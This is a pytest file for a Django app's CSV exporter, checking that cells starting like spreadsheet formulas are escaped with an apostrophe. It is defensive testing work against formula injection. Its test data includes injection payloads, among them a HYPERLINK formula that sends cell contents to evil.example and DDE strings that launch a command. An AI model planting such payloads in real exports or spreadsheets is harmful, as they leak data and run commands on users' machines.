"""The one CSV writer: no text cell reaches a spreadsheet as a formula. Issue 12, item 4."""

import csv
import io
from datetime import UTC, datetime

import pytest

from apps.core.csv_export import cell_read, csv_lines, safe_cell


@pytest.mark.parametrize(
    "value, cell",
    [
        ('=HYPERLINK("https://evil.example/?"&A1,"Ver")', '\'=HYPERLINK("https://evil.example/?"&A1,"Ver")'),
        ("+34 600 111 222", "'+34 600 111 222"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Ana = Bob", "Ana = Bob"),
        ("", ""),
        (None, ""),
        (-5, -5),  # numbers we wrote ourselves stay numbers
    ],
)  # fmt: skip
def test_cells_that_start_like_a_formula_get_an_apostrophe(value, cell):
    assert safe_cell(value) == cell


def test_every_row_and_the_header_go_through_the_same_escaping():
    at = datetime(2026, 12, 1, 10, 0, tzinfo=UTC)
    lines = csv_lines(["name", "=header"], [["=1+1", at], [None, 7]])
    rows = list(csv.reader(io.StringIO("".join(lines))))
    assert rows == [["name", "'=header"], ["'=1+1", "2026-12-01T10:00:00+00:00"], ["", "7"]]


def test_a_datetime_cell_is_iso_8601_with_its_offset_in_any_active_zone():
    from django.utils import timezone

    at = datetime(2026, 3, 30, 8, 8, tzinfo=UTC)
    with timezone.override("Europe/Madrid"):
        assert safe_cell(at) == "2026-03-30T08:08:00+00:00"


@pytest.mark.parametrize(
    "value", ["+34600111222", '=HYPERLINK("https://x.test")', "-2+3", "@SUM(1)", "'quoted", "Ana", ""]
)
def test_a_cell_we_wrote_reads_back_as_its_value(value):
    assert cell_read(safe_cell(value)) == value


def test_an_apostrophe_before_ordinary_text_is_kept():
    assert cell_read("'tis the season") == "'tis the season"
